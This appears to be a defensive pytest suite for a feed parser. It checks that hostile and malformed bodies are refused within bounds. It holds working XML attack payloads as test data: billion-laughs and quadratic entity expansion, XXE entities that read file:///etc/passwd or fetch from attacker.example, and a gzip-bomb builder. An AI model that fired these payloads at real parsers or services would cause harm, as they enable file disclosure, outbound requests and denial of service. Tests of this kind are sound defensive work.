"""Hostile and unusable bodies are refused, within bounded time and memory."""

from __future__ import annotations

import gzip
import os
import zlib

import pytest

from events.ingest.parse import decompress_bounded, parse_document
from events.ingest.types import HostileInput, ParseError
from tests.events.ingest.corpus import feed

ITEM = "<item><title>t</title></item>"


def billion_laughs() -> bytes:
    levels = ['<!ENTITY lol0 "lol">']
    levels += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    doctype = f"<!DOCTYPE rss [{''.join(levels)}]>"
    return f'<?xml version="1.0"?>{doctype}<rss><channel><title>&lol9;</title>'.encode()


def gzip_bomb(size: int) -> bytes:
    """A gzip member inflating to `size` zero bytes, built without holding them."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = bytes(1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(size // len(chunk))]
    return b"".join(parts) + compressor.flush()


HOSTILE_XML = {
    "billion laughs": billion_laughs(),
    "quadratic blowup": (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>'
        f"<rss><channel><title>{'&a;' * 50_000}</title></channel></rss>"
    ).encode(),
    "external entity, file": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM '
        b'"file:///etc/passwd">]><rss><channel><title>&xxe;</title>' + ITEM.encode()
    ),
    "external entity, http": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM '
        b'"http://attacker.example/x">]><rss><channel><title>&xxe;</title></channel>'
        b"</rss>"
    ),
    "external DTD": (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://attacker.example/e.dtd">'
        b"<rss><channel><title>&defined_there;</title></channel></rss>"
    ),
    "parameter entity": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM '
        b'"http://attacker.example/p.dtd"> %remote;]><rss/>'
    ),
    "entity in an ill-formed prolog": (
        b"<?xml version='1.0'?><!BOGUS><!DOCTYPE rss [<!ENTITY a 'aaaaaaaaaa'>]>"
        b"<rss><channel><title>&a;&a;&a;</title></channel></rss>"
    ),
    "entity declared in a UTF-16 document": (
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY a "b">]>'
        "<rss><channel><title>&a;</title></channel></rss>"
    ).encode("utf-16"),
    "entity declared in a document in an encoding expat lacks": (
        b'<?xml version="1.0" encoding="euc-kr"?><!DOCTYPE rss [<!ENTITY a "b">]>'
        b"<rss><channel><title>&a;</title></channel></rss>"
    ),
}


@pytest.mark.parametrize("body", HOSTILE_XML.values(), ids=HOSTILE_XML.keys())
def test_entity_tricks_are_refused(body: bytes) -> None:
    with pytest.raises(HostileInput):
        parse_document(body)


@pytest.mark.parametrize("body", HOSTILE_XML.values(), ids=HOSTILE_XML.keys())
def test_entity_tricks_are_refused_when_rss_is_declared(body: bytes) -> None:
    with pytest.raises(HostileInput):
        parse_document(body, declared_format="rss_atom")


def test_gzip_bomb_is_refused() -> None:
    with pytest.raises(HostileInput, match="inflates to over"):
        parse_document(gzip_bomb(64 * 1024 * 1024))


def test_decompression_stops_at_the_cap() -> None:
    with pytest.raises(HostileInput):
        decompress_bounded(gzip.compress(b"<rss>" + b" " * 2_000), 1_000)
    assert decompress_bounded(gzip.compress(b"abc") * 2, 10) == b"abcabc"


def test_corrupt_and_truncated_gzip_are_parse_errors() -> None:
    body = gzip.compress(feed("rss2-spec-sample-liftoff.xml"))
    with pytest.raises(ParseError, match="truncated gzip"):
        parse_document(body[: len(body) // 2])
    with pytest.raises(ParseError, match="corrupt gzip"):
        parse_document(body[:10] + b"\xff" * 50)


def test_gzip_inside_gzip_is_refused() -> None:
    with pytest.raises(ParseError, match="compressed twice"):
        parse_document(gzip.compress(gzip.compress(b"<rss/>")))


def test_oversized_body_is_refused_before_parsing() -> None:
    body = b"<rss><channel>" + b" " * 2_000 + b"</channel></rss>"
    with pytest.raises(HostileInput, match="over the 1,000-byte limit"):
        parse_document(body, max_bytes=1_000)


def test_default_size_cap_is_ten_megabytes() -> None:
    with pytest.raises(HostileInput, match="limit"):
        parse_document(b" " * (10 * 1024 * 1024 + 1))


def test_nul_bytes_are_refused() -> None:
    body = feed("rss2-spec-sample-liftoff.xml").replace(b"Liftoff", b"Lift\x00off")
    with pytest.raises(HostileInput, match="NUL"):
        parse_document(body)


def test_png_is_refused() -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(64)
    with pytest.raises(ParseError, match="a PNG image"):
        parse_document(png)


@pytest.mark.parametrize("seed", range(5))
def test_random_bytes_are_refused(seed: int) -> None:
    noise = bytes((n * 7919 + seed * 104729) % 251 for n in range(4096))
    with pytest.raises(ParseError):
        parse_document(noise)
    with pytest.raises(ParseError):
        parse_document(os.urandom(4096))


@pytest.mark.parametrize("body", [b"", b"   \r\n\t", b"\xef\xbb\xbf\n"])
def test_empty_body_is_refused(body: bytes) -> None:
    with pytest.raises(ParseError, match="an empty body"):
        parse_document(body)


def test_html_page_is_not_a_feed() -> None:
    with pytest.raises(ParseError, match="a web page, not a feed"):
        parse_document(feed("not-a-feed.html"))


def test_html_page_is_not_a_feed_even_when_rss_is_declared() -> None:
    with pytest.raises(ParseError, match="a web page, not a feed"):
        parse_document(feed("not-a-feed.html"), declared_format="rss_atom")


def test_text_served_as_html_is_not_a_feed() -> None:
    with pytest.raises(ParseError, match="a web page, not a feed"):
        parse_document(b"Hello, world", content_type="text/html; charset=utf-8")


def test_plain_text_is_unrecognised() -> None:
    with pytest.raises(ParseError, match="^not a feed: unrecognised content"):
        parse_document(b"Hello, world")


def test_deeply_nested_json_is_refused() -> None:
    with pytest.raises(HostileInput, match="nested too deeply"):
        parse_document(b"[" * 200_000)


def test_unknown_declared_format_is_a_parse_error() -> None:
    with pytest.raises(ParseError, match="unknown format"):
        parse_document(b"<rss/>", declared_format="yaml")


def test_feed_of_too_many_items_is_refused() -> None:
    body = b"<rss><channel>" + b"<item/>" * 10_001 + b"</channel></rss>"
    with pytest.raises(HostileInput, match="over 10,000 items"):
        parse_document(body)


def test_json_of_too_many_objects_is_refused() -> None:
    with pytest.raises(HostileInput, match="JSON objects"):
        parse_document(b"[" + b"{}," * 1_000_001 + b"{}]")


def test_warnings_are_capped() -> None:
    header = b"platform,target,target_type,country,action,date\n"
    result = parse_document(header + b"x\n" * 5_000)
    assert result.items == []
    assert len(result.warnings) == 201
    assert result.warnings[-1] == (None, "further warnings omitted")
